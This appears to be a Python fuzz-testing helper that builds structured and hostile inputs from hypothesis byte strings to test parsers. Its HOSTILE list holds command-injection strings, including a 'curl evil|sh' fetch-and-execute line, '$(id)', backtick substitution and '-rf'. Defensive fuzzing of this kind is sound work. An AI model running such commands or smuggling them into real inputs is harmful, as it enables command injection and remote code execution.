"""Turn one hypothesis-drawn byte string into structured input (JSON-ish values, shaped objects, texts).

One ``st.binary()`` draw per case keeps hypothesis's own cost per case small (10,000 cases of each parser
run in seconds, not minutes); every byte still steers the shape, and shrinking still works on the bytes.
"""

from __future__ import annotations

HOSTILE = ["x\ncurl evil|sh\n#", "$(id)", "`id`", "a'b\"c", "=cmd", "-rf", "@x", "\t", "\r", "\x00", "é", ""]


class Reader:
    """Reads choices from bytes; past the end every choice is 0 (the smallest, shortest)."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.i = 0

    def byte(self) -> int:
        if self.i >= len(self.data):
            return 0
        b = self.data[self.i]
        self.i += 1
        return b

    def below(self, n: int) -> int:
        return self.byte() % n if n > 0 else 0

    def flag(self) -> bool:
        return self.byte() & 1 == 1

    def pick(self, seq):
        return seq[self.below(len(seq))]

    def raw_text(self, n: int = 12) -> str:
        size = self.below(n + 1)
        return bytes(self.byte() for _ in range(size)).decode("latin-1")

    def text(self, words: list[str], n: int = 12) -> str:
        """Words, separators and raw characters."""
        out = []
        for _ in range(self.below(n + 1)):
            k = self.below(8)
            if k < 4:
                out.append(self.pick(words))
            elif k < 7:
                out.append(self.pick([" ", "\n", "\t", "#", ":", ".", "="]))
            else:
                out.append(self.raw_text(4))
        return "".join(out)

    def name(self, names: list[str]) -> object:
        """Something in a name's place: a plausible name, a hostile one, raw text, or another value."""
        k = self.below(8)
        if k < 4:
            return self.pick(names)
        if k < 6:
            return self.pick(HOSTILE)
        if k == 6:
            return self.raw_text()
        return self.value([], depth=2)

    def value(self, keys: list[str], depth: int = 0) -> object:
        """A JSON-ish value: scalars, and dicts (keys from ``keys`` or raw) and lists, at most 3 deep."""
        k = self.below(10 if depth < 3 else 6)
        if k == 0:
            return None
        if k == 1:
            return self.flag()
        if k == 2:
            return int.from_bytes(bytes([self.byte(), self.byte(), self.byte()]), "big", signed=True)
        if k == 3:
            return self.pick([0.5, -1.0, float("nan"), float("inf"), 1e308, 2**70])
        if k == 4:
            return self.pick(HOSTILE)
        if k == 5:
            return self.raw_text()
        if k < 8:
            return {
                (self.pick(keys) if keys and self.flag() else self.raw_text(6)): self.value(keys, depth + 1)
                for _ in range(self.below(4))
            }
        return [self.value(keys, depth + 1) for _ in range(self.below(4))]

    def shaped(self, shape: object, keys: list[str], names: list[str]) -> object:
        """``shape`` (dicts of dicts; leaves are ``"name"``, ``"value"``, ``"bool"`` or a list of choices)
        filled in from the bytes; any key may be left out, any part replaced by an arbitrary value."""
        k = self.below(16)
        if k == 0:
            return self.value(keys, 1)
        if isinstance(shape, dict):
            return {key: self.shaped(sub, keys, names) for key, sub in shape.items() if self.below(6)}
        if isinstance(shape, tuple):  # a list of that shape
            return [self.shaped(shape[0], keys, names) for _ in range(self.below(4))]
        if shape == "name":
            return self.name(names)
        if shape == "bool":
            return self.flag()
        if isinstance(shape, list):
            return self.pick(shape)
        return self.value(keys, 1)
